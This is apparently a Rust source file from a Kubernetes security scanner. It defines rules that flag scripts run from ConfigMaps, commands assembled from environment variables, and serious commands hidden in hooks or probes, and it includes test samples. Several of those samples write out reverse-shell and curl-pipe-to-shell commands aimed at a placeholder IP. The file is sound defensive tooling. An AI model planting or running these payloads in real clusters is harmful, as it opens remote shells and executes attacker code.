//! Where a command stands, and where its text comes from. These rules read what the others found.

use crate::detect::catalog::{Exposure, Remedy, Step, links};
use std::collections::BTreeSet;

use super::words::operands;
use super::{COMMAND, Facts, Rule, Sample, Severity, TABLES};
use crate::detect::code;
use crate::detect::findings::{Collector, Findings};
use crate::normalize::exec::is_shell;
use crate::normalize::path::within;
use crate::score::Family;
use crate::workload::Trigger;

/// From here on a finding is more than an oddity.
const SERIOUS: i32 = 30;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-script-from-config",
        title: "Script from a ConfigMap or Secret",
        message: "runs a script from a ConfigMap or Secret",
        meaning: "The script is in another object, which is not judged here: what it does is not known.",
        false_positives: "The usual way to ship scripts.",
        confirm: &[
            Step::Fields("..volumes", "The ConfigMap or Secret that holds the script."),
            Step::Run(
                "kubectl -n NAMESPACE get configmaps -o yaml",
                "The script itself, under data. Read it as you would a command; its managedFields are \
                 shown with --show-managed-fields.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Whoever may change the ConfigMap decides what the Job runs. Compare the script with \
                     the one in your repository, and see who else may write ConfigMaps in this namespace.",
            benign: "Usual, and fine. Make the ConfigMap immutable: true with a name that changes with its \
                     content, and let few accounts write ConfigMaps.",
        },
        severity: Severity::None,
        points: 6,
        techniques: &["T1059"],
        references: &[links::CONFIGMAP],
        check: script_from_config,
        samples: &[
            Sample::Hit(
                6,
                "volumes: [{name: s, configMap: {name: s}}]\ncontainers: [{name: a, command: [sh, /scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts}]}]",
            ),
            Sample::Hit(
                6,
                "volumes: [{name: s, projected: {sources: [{configMap: {name: s}}]}}]\ncontainers: [{name: a, command: [/scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts/}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: s, configMap: {name: s}}]\ncontainers: [{name: a, command: [/app/run, /cfg/app.yaml], volumeMounts: [{name: s, mountPath: /cfg}]}]",
            ),
            Sample::Miss(
                "volumes: [{name: s, emptyDir: {}}]\ncontainers: [{name: a, command: [sh, /scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts}]}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-payload-in-env",
        title: "Command assembled from the environment",
        message: "keeps the parts of a command in the environment",
        meaning: "The command is only hostile once the variables are put in: whoever reads the command sees nothing.",
        false_positives: "None known: only what is serious with the variables and not without them counts.",
        confirm: &[
            Step::Fields(
                "..env",
                "The variables whose values, put together, are the command. Put them in by hand to read \
                 it, without running it.",
            ),
            Step::Fields("..envFrom", "ConfigMaps and Secrets that bring further variables."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "The split is deliberate: somebody knew that commands are read. The other findings on \
                     this workload say what the whole command does; treat it by their pages.",
            benign: "Variables carry settings, not commands. Write the script in one piece, in the image \
                     or a ConfigMap.",
        },
        severity: Severity::Low,
        points: 12,
        techniques: &["T1027"],
        references: &[links::CONFIGMAP],
        check: payload_in_env,
        samples: &[
            Sample::Hit(
                12,
                "containers: [{name: a, env: [{name: A, value: nc}, {name: B, value: '192.0.2.10 1 -e /bin/sh'}], command: [sh, -c, '$A $B']}]",
            ),
            Sample::Hit(
                12,
                "containers: [{name: a, env: [{name: P, value: 'curl http://192.0.2.10/s | sh'}], command: [sh, -c, 'eval \"$P\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, env: [{name: H, value: 192.0.2.10}], command: [sh, -c, 'nc $H 1 -e /bin/sh']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, env: [{name: URL, value: 'http://svc/health'}], command: [sh, -c, 'curl $URL']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-in-hook-or-probe",
        title: "Serious command in a hook or probe",
        message: "hides a serious command in a hook or probe",
        meaning: "Hooks and probes are run by the kubelet and read by nobody: the container's command looks clean.",
        false_positives: "The finding in the hook may be one.",
        confirm: &[Step::Search(
            "lifecycle:|postStart:|preStop:|livenessProbe:|readinessProbe:|startupProbe:|exec:",
            "The hook or probe and its command. The finding's path in the report says which one.",
        )],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "A hook runs once per start, a probe again and again every few seconds: count the runs \
                     by the pod's age. Its output is in no log; a failing hook shows in the pod's events.",
            benign: "Hooks and probes of a Job are rarely needed. Keep a probe to an HTTP or TCP check; \
                     put preparations into an init container, which is read and logged.",
        },
        severity: Severity::Low,
        points: 8,
        techniques: &["T1059"],
        references: &[links::HOOKS, links::PROBES],
        check: in_hook,
        samples: &[
            Sample::Hit(
                8,
                "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
            ),
            Sample::Hit(
                8,
                "containers: [{name: a, lifecycle: {preStop: {exec: {command: [nc, '192.0.2.10', '1', -e, sh]}}}}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | sh'], livenessProbe: {exec: {command: [cat, /ok]}}}]",
            ),
            Sample::Miss(
                "containers: [{name: a, livenessProbe: {exec: {command: [curl, -f, 'http://localhost/']}}}]",
            ),
        ],
        ..COMMAND
    },
];

fn script_from_config(facts: &Facts<'_>, found: &mut Collector<'_>) {
    if facts.workload.config_volumes.is_empty() {
        return;
    }
    let volumes: BTreeSet<&str> = facts.workload.config_volumes.iter().map(String::as_str).collect();
    for run in &facts.runs {
        let mounts: Vec<&str> = run
            .container
            .mounts
            .iter()
            .filter(|mount| volumes.contains(mount.volume.as_str()) && !mount.mount_path.is_empty())
            .map(|mount| mount.mount_path.as_str())
            // Nobody mounts more scripts than that; the work per command stays bounded.
            .take(16)
            .collect();
        if mounts.is_empty() {
            continue;
        }
        let mounted = |path: &str| path.starts_with('/') && mounts.iter().any(|mount| within(path, mount));
        let hit = run.invocations().find(|(_, call)| {
            let takes_script = is_shell(&call.program)
                || code::language(&call.program).is_some_and(|language| language != code::Language::Awk)
                || matches!(call.program.as_str(), "source" | ".");
            let script = operands(call)
                .next()
                .filter(|_| takes_script && call.scripts.is_empty() && code::inline(call).is_none());
            mounted(&call.path) || script.is_some_and(mounted)
        });
        if let Some((at, _)) = hit {
            found.hit(Some(&run.container.name), run.path(), &run.show(at));
        }
    }
}

/// What is serious among the commands: rule and place, with the evidence.
fn serious(findings: &Findings) -> Vec<(&'static str, String, String, Option<String>)> {
    let commands = findings.by_rule().filter(|(rule, _)| rule.family == Family::Command);
    let hits = commands.flat_map(|(rule, hits)| hits.iter().map(move |hit| (rule.id, hit)));
    hits.filter(|(_, hit)| hit.points >= SERIOUS)
        .map(|(id, hit)| {
            let container = hit.container.as_ref().map(|name| name.as_str().to_owned());
            (id, hit.path.clone(), hit.evidence.as_str().to_owned(), container)
        })
        .collect()
}

fn payload_in_env(facts: &Facts<'_>, found: &mut Collector<'_>) {
    if facts.workload.containers.iter().all(|container| container.env.is_empty()) {
        return;
    }
    let with = serious(found.so_far());
    if with.is_empty() {
        return;
    }
    // The same rules once more, without the environment: only where there is something serious at all.
    let mut bare = facts.workload.clone();
    for container in &mut bare.containers {
        container.env.clear();
    }
    let bare = Facts::at_depth(&bare, facts.depth);
    let mut findings = Findings::default();
    for rule in TABLES.iter().filter(|table| !std::ptr::eq(**table, RULES)).flat_map(|table| table.iter()) {
        (rule.check)(&bare, &mut findings.of(rule));
    }
    let without: BTreeSet<(&str, String)> =
        serious(&findings).into_iter().map(|(id, path, _, _)| (id, path)).collect();
    for (id, path, evidence, container) in with {
        // What stands in the environment itself (a pool, a library) is no command that was hidden there.
        let in_command = path.rsplit('.').next() != Some("env");
        if in_command && !without.contains(&(id, path.clone())) {
            found.hit(container.as_deref(), &path, &evidence);
        }
    }
}

fn in_hook(facts: &Facts<'_>, found: &mut Collector<'_>) {
    let hooks: BTreeSet<&str> = facts
        .runs
        .iter()
        .filter(|run| run.exec.trigger == Trigger::HookOrProbe)
        .map(super::Run::path)
        .collect();
    if hooks.is_empty() {
        return;
    }
    for (_, path, evidence, container) in serious(found.so_far()) {
        if hooks.contains(path.as_str()) {
            found.hit(container.as_deref(), &path, &evidence);
        }
    }
}
